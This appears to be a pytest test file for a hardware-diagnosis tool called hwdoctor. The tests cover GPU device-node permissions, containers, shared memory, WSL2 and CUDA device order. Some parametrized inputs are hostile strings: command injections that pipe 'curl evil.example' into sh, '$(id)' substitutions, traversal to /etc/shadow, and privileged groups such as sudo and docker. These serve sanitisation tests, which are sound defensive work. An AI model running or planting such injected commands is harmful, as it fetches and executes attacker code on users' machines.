"""Where hwdoctor runs: device-node permissions, containers, /dev/shm, WSL2; device order.

The checks are unit-tested on evidence; the scan that feeds them runs for real against a
fake host root, without the capabilities that let root open any file (a user's view).
"""

from __future__ import annotations

import dataclasses
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from hwdoctor.diagnosis import detect
from hwdoctor.model.facts import Device, Evidence, HardwareSignal, NodeAccess, Placement
from hwdoctor.model.reports import Finding
from tests import catalogue_plugin
from tests.conftest import ROOT, Result, base_env, run_hwdoctor
from tests.conftest import codes as report_codes
from tests.evidence import codes, cpu_host, with_backend, with_env, with_signal
from tests.fakeworld import FakeDevice, World

PLACEMENT_CODES = {
    "host.device_node_denied",
    "host.container_without_device",
    "host.container_hides_devices",
    "host.shm_too_small",
}


def placed(evidence: Evidence, **changes: object) -> Evidence:
    assert evidence.host is not None
    placement = dataclasses.replace(evidence.host.placement or Placement(), **changes)
    return dataclasses.replace(
        evidence, host=dataclasses.replace(evidence.host, placement=placement)
    )


def with_node(evidence: Evidence, backend: str, detail: str, count: int | None = None) -> Evidence:
    assert evidence.host is not None
    signal = HardwareSignal(backend, "device_node", detail, count)
    host = dataclasses.replace(evidence.host, signals=(*evidence.host.signals, signal))
    return dataclasses.replace(evidence, host=host)


def found_in(evidence: Evidence) -> dict[str, Finding]:
    """The findings of `detect` on `evidence` by code (recorded for the catalogue check)."""
    findings = detect(evidence).findings
    return dict(zip(codes(findings), findings, strict=True))


def amd_unavailable() -> Evidence:
    evidence = with_signal(cpu_host(), "rocm", "1 PCI device(s) 1002:744c", 1)
    evidence = with_node(evidence, "rocm", "/dev/kfd")
    return with_backend(evidence, "rocm", available=False, reason=None, importable=None)


def test_a_cpu_only_container_stays_silent() -> None:
    """This machine: a Docker container with no accelerator, /dev/shm of 64 MB."""
    found = found_in(placed(cpu_host(), container="docker", shm_bytes=64 << 20))
    assert not set(found) & PLACEMENT_CODES


def test_nodes_only_a_group_may_open_name_the_group_not_missing_hardware() -> None:
    evidence = placed(
        amd_unavailable(),
        nodes=(
            NodeAccess("rocm", "/dev/kfd", False, "render", True),
            NodeAccess("rocm", "/dev/dri/renderD128", False, "render", True),
        ),
        groups=("alice",),
    )
    found = found_in(evidence)
    assert "backend.unavailable" not in found
    denied = found["host.device_node_denied"]
    assert denied.severity.value == "error"
    assert "/dev/kfd, /dev/dri/renderD128" in denied.message
    assert "only members of render may open them" in denied.message
    assert 'sudo usermod -aG render "$USER"' in (denied.remedy or "")
    assert "newgrp render" in (denied.remedy or "")


def test_nodes_no_group_opens_say_so() -> None:
    evidence = placed(
        amd_unavailable(), nodes=(NodeAccess("rocm", "/dev/kfd", False, "root", False),)
    )
    denied = found_in(evidence)["host.device_node_denied"]
    assert denied.message == "AMD GPU: /dev/kfd exist but this user may not open them"
    assert denied.remedy == "ls -l /dev/kfd"
    assert "no group this user could join opens them" in (denied.advice or "")


# Groups a node could belong to on someone else's machine, as an evidence file or a paste
# may name them: joining `sudo`, `docker` or `disk` is root; a name with shell syntax in it.
HOSTILE_GROUPS = ("sudo", "docker", "disk", 'render"; curl evil.example | sh; "', "x\nid")


@pytest.mark.parametrize("group", HOSTILE_GROUPS)
def test_only_a_documented_group_goes_into_usermod(group: str) -> None:
    """ROCm's documented groups are render and video (registry); a node in any other group
    is named in the message and gets no command to join it."""
    evidence = placed(
        amd_unavailable(),
        nodes=(NodeAccess("rocm", "/dev/kfd", False, group, True),),
        groups=("alice",),
    )
    denied = found_in(evidence)["host.device_node_denied"]
    assert "usermod" not in (denied.remedy or "")
    assert denied.remedy == "ls -l /dev/kfd"
    assert f"only members of {group} may open them" in denied.message
    assert f"no command joins {group}: not a group" in (denied.advice or "")
    # next to a documented group, only that one is joined
    both = placed(
        amd_unavailable(),
        nodes=(
            NodeAccess("rocm", "/dev/kfd", False, group, True),
            NodeAccess("rocm", "/dev/dri/renderD128", False, "render", True),
        ),
        groups=("alice",),
    )
    joined = found_in(both)["host.device_node_denied"]
    assert joined.remedy is not None
    assert joined.remedy.splitlines()[0] == 'sudo usermod -aG render "$USER"'


@pytest.mark.parametrize(
    "path",
    [
        "/dev/kfd; curl evil.example | sh",
        "/dev/../etc/shadow",
        "/etc/passwd",
        "/dev/$(id)",
        "/dev/kfd\nid",
        "/dev/./kfd",
        "/dev",
        "/dev/",
        "relative/dev/kfd",
        "/dev/k fd",
    ],
)
def test_only_dev_paths_reach_ls(path: str) -> None:
    """A node path from an evidence file reaches `ls -l` only when it is a /dev path
    (letters, digits, `_`, `.`, `-`; no `.` or `..` part), quoted; any other is left out."""
    evidence = placed(
        amd_unavailable(),
        nodes=(
            NodeAccess("rocm", path, False, "root", False),
            NodeAccess("rocm", "/dev/dri/renderD128", False, "root", False),
        ),
    )
    denied = found_in(evidence)["host.device_node_denied"]
    assert denied.remedy == "ls -l /dev/dri/renderD128"
    alone = placed(amd_unavailable(), nodes=(NodeAccess("rocm", path, False, "root", False),))
    assert found_in(alone)["host.device_node_denied"].remedy is None


@pytest.mark.parametrize(
    "path",
    [
        "/dev/kfd",
        "/dev/dri/renderD128",
        "/dev/mtgpu.0",
        "/dev/accel/accel_controlD0",
        "/dev/vfio/0",
        "/dev/davinci_manager",
        "/dev/nvidia-uvm",
    ],
)
def test_real_device_paths_reach_ls(path: str) -> None:
    evidence = placed(amd_unavailable(), nodes=(NodeAccess("rocm", path, False, "root", False),))
    assert found_in(evidence)["host.device_node_denied"].remedy == f"ls -l {path}"


def test_a_container_started_without_the_gpu_gets_the_flag() -> None:
    evidence = with_signal(cpu_host(), "cuda", "2 PCI device(s) 10de:27b8", 2)
    evidence = placed(evidence, container="docker")
    found = found_in(evidence)
    assert "--gpus all" in (found["host.container_without_device"].advice or "")
    # the same host outside a container: no container finding
    outside = detect(with_signal(cpu_host(), "cuda", "2 PCI device(s) 10de:27b8", 2))
    assert "host.container_without_device" not in codes(outside.findings)


@pytest.mark.parametrize("value", ["none", "void", "VOID"])
def test_nvidia_visible_devices_none_or_void(value: str) -> None:
    evidence = with_signal(cpu_host(), "cuda", "1 PCI device(s) 10de:27b8", 1)
    evidence = with_env(placed(evidence, container="docker"), NVIDIA_VISIBLE_DEVICES=value)
    found = found_in(evidence)
    hides = found["host.container_hides_devices"]
    assert f"NVIDIA_VISIBLE_DEVICES={value.lower()}" in hides.message
    assert "host.container_without_device" not in found
    # without a GPU on the bus, the variable alone says nothing
    quiet = with_env(placed(cpu_host(), container="docker"), NVIDIA_VISIBLE_DEVICES=value)
    assert "host.container_hides_devices" not in codes(detect(quiet).findings)


@pytest.mark.parametrize(
    ("count", "shm", "expected"), [(2, 64 << 20, True), (1, 64 << 20, False), (8, 1 << 30, False)]
)
def test_shared_memory_for_several_gpus(count: int, shm: int, expected: bool) -> None:
    evidence = with_signal(cpu_host(), "cuda", f"{count} PCI device(s) 10de:2330", count)
    evidence = with_node(evidence, "cuda", "/dev/nvidia0", count)
    evidence = placed(evidence, container="docker", shm_bytes=shm)
    found = found_in(evidence)
    assert ("host.shm_too_small" in found) is expected
    if expected:
        assert "/dev/shm is 64 MiB" in found["host.shm_too_small"].message
        assert "--shm-size=1g" in (found["host.shm_too_small"].advice or "")


def test_wsl_points_at_the_windows_driver() -> None:
    evidence = with_node(cpu_host(), "cuda", "/dev/dxg")
    evidence = with_backend(evidence, "cuda", available=False, reason=None)
    found = found_in(placed(evidence, wsl=True))
    remedy = found["backend.unavailable"].advice or ""
    assert "on Windows" in remedy and "inside WSL" in remedy


# --- the scan, for real -----------------------------------------------------------------------

NO_OVERRIDE = ["setpriv", "--bounding-set=-dac_override,-dac_read_search", "--inh-caps=-all"]


def run_without_override(*args: str, env: dict[str, str]) -> Result:
    """`hwdoctor ARGS` as root without the capabilities that open any file: what a user
    who owns none of the nodes sees."""
    completed = subprocess.run(
        [*NO_OVERRIDE, sys.executable, "-m", "hwdoctor", *args],
        capture_output=True, text=True, env=env, cwd=ROOT, timeout=180, check=False,
    )  # fmt: skip
    result = Result(tuple(args), completed.returncode, completed.stdout, completed.stderr, 0.0)
    catalogue_plugin.record(report_codes(result.json()))
    return result


needs_root = pytest.mark.skipif(
    os.geteuid() != 0 or shutil.which("setpriv") is None, reason="needs root and setpriv"
)


@needs_root
def test_unreadable_nodes_are_a_permission_finding_end_to_end(tmp_path: Path) -> None:
    world = World(tmp_path / "world").pci("0000:03:00.0", 0x1002, 0x744C, 0x030000)
    world.device_node("kfd", "dri/renderD128", "dri/card0")
    nobody = 65534
    video = 44  # a group this machine has; the user (root) is not in it
    for name, mode in (("kfd", 0o660), ("dri/renderD128", 0o660)):
        node = world.host / "dev" / name
        os.chown(node, nobody, video)
        node.chmod(mode)
    result = run_without_override("detect", "--json", env=world.env(base_env()))
    document = result.json()
    found = {f["code"]: f for f in document["data"]["findings"]}
    denied = found["host.device_node_denied"]
    assert "/dev/kfd" in denied["message"] and "/dev/dri/renderD128" in denied["message"]
    assert 'sudo usermod -aG video "$USER"' in denied["remedy"]
    rocm = next(b for b in document["data"]["backends"] if b["key"] == "rocm")
    assert "no hardware" not in json.dumps(rocm).lower(), rocm


@needs_root
def test_mode_000_nodes_are_denied_too(tmp_path: Path) -> None:
    world = World(tmp_path / "world").pci("0000:03:00.0", 0x10DE, 0x27B8, 0x030200)
    world.device_node("nvidia0", "nvidiactl")
    for name in ("nvidia0", "nvidiactl"):
        (world.host / "dev" / name).chmod(0)
    result = run_without_override("detect", "--json", env=world.env(base_env()))
    found = {f["code"]: f for f in result.json()["data"]["findings"]}
    assert "/dev/nvidia0" in found["host.device_node_denied"]["message"]
    assert found["host.device_node_denied"]["remedy"] == "ls -l /dev/nvidia0 /dev/nvidiactl"


@needs_root
@pytest.mark.skipif(shutil.which("unshare") is None, reason="needs unshare")
def test_a_docker_sized_shm_with_two_gpus(tmp_path: Path) -> None:
    """A private mount namespace lays a 64 MB tmpfs (Docker's default) on the fake root's
    /dev/shm; the fake root says it is a Docker container."""
    world = World(tmp_path / "world")
    world.pci("0000:3b:00.0", 0x10DE, 0x2330, 0x030200).pci(
        "0000:86:00.0", 0x10DE, 0x2330, 0x030200
    )
    world.device_node("nvidia0", "nvidia1", "nvidiactl")
    (world.host / ".dockerenv").touch()
    shm = world.host / "dev" / "shm"
    shm.mkdir(parents=True)
    script = (
        f"mount -t tmpfs -o size=64m tmpfs {shm} && exec {sys.executable} -m hwdoctor detect --json"
    )
    completed = subprocess.run(
        ["unshare", "-m", "sh", "-c", script], capture_output=True, text=True,
        env=world.env(base_env()), cwd=ROOT, timeout=180, check=False,
    )  # fmt: skip
    result = Result(
        ("detect", "--json"), completed.returncode, completed.stdout, completed.stderr, 0.0
    )
    catalogue_plugin.record(report_codes(result.json()))
    found = {f["code"]: f for f in result.json()["data"]["findings"]}
    assert "/dev/shm is 64 MiB" in found["host.shm_too_small"]["message"], result
    assert "host.container_without_device" not in found  # the nodes are there


# --- device order -----------------------------------------------------------------------------

# The models of a real mixed machine (tests/data/real/nvidia-smi-L/t1000-v100-mixed.txt,
# where nvidia-smi lists the T1000 first: it sits on the lower PCI bus).
T1000 = ("NVIDIA T1000", "0000:3b:00.0")
V100 = ("Tesla V100-PCIE-16GB", "0000:86:00.0")


def cuda_devices(*devices: tuple[str, str | None]) -> Evidence:
    table = tuple(Device(i, name, pci_bus_id=bus) for i, (name, bus) in enumerate(devices))
    return with_backend(
        cpu_host(), "cuda", available=True, device_count=len(table), devices=table, reason=None
    )


def test_mixed_models_out_of_bus_order_are_mapped() -> None:
    found = found_in(cuda_devices(V100, T1000))  # the faster V100 first, as CUDA numbers it
    order = found["devices.order_differs"]
    assert "cuda:0 = 0000:86:00.0 Tesla V100-PCIE-16GB" in order.message
    assert "cuda:1 = 0000:3b:00.0 NVIDIA T1000" in order.message
    assert order.remedy == "export CUDA_DEVICE_ORDER=PCI_BUS_ID"


@pytest.mark.parametrize(
    "evidence",
    [
        with_env(cuda_devices(V100, T1000), CUDA_DEVICE_ORDER="PCI_BUS_ID"),
        cuda_devices(T1000, V100),  # the heuristic gave the bus order
        cuda_devices(V100, ("Tesla V100-PCIE-16GB", "0000:3b:00.0")),  # one model
    ],
    ids=["order set", "bus order", "one model"],
)
def test_device_order_is_quiet_when_it_cannot_matter(evidence: Evidence) -> None:
    assert "devices.order_differs" not in found_in(evidence)


def test_unknown_bus_ids_still_warn_for_mixed_models() -> None:
    found = found_in(cuda_devices((V100[0], None), (T1000[0], None)))
    assert "cuda:0 = bus unknown Tesla V100-PCIE-16GB" in found["devices.order_differs"].message


def test_the_probe_reads_each_device_s_pci_address(tmp_path: Path) -> None:
    """Through the real probe: torch's device properties carry the PCI ids."""

    def device(name: str, bus: str, capability: tuple[int, int]) -> FakeDevice:
        domain, number, slot = (int(part, 16) for part in bus.removesuffix(".0").split(":"))
        ids = (("pci_domain_id", domain), ("pci_bus_id", number), ("pci_device_id", slot))
        return FakeDevice(name, capability=capability, properties=ids)

    world = World(tmp_path / "world").patch_cuda(
        [device(*V100, (7, 0)), device(*T1000, (7, 5))], arch_list=("sm_70", "sm_75")
    )
    result = run_hwdoctor("detect", "--json", env=world.env(base_env()))
    found = {f["code"]: f for f in result.json()["data"]["findings"]}
    assert "cuda:0 = 0000:86:00.0 Tesla V100-PCIE-16GB" in found["devices.order_differs"]["message"]


def test_an_evidence_files_groups_and_paths_reach_no_command(tmp_path: Path) -> None:
    """Through `detect --from`: a recorded evidence file (tests/data/fleet) edited to say
    its ROCm nodes belong to `sudo` and one is named with shell syntax. The finding names
    them; the remedy joins no group and lists only the /dev path."""
    document = json.loads((ROOT / "tests" / "data" / "fleet" / "vm-0.json").read_text())
    document["host"]["placement"]["nodes"] = [
        {
            "backend": "rocm",
            "path": "/dev/kfd",
            "openable": False,
            "group": "sudo",
            "group_can": True,
        },
        {
            "backend": "rocm",
            "path": "/dev/dri/renderD128;sh",
            "openable": False,
            "group": "docker",
            "group_can": True,
        },
    ]
    path = tmp_path / "evidence.json"
    path.write_text(json.dumps(document))
    result = run_hwdoctor("detect", "--from", str(path), "--json")
    assert result.returncode == 1, result
    found = {f["code"]: f for f in result.json()["data"]["findings"]}
    denied = found["host.device_node_denied"]
    assert "only members of docker and sudo may open them" in denied["message"]
    assert denied["remedy"] == "ls -l /dev/kfd"
    assert "no command joins docker and sudo" in denied["advice"]
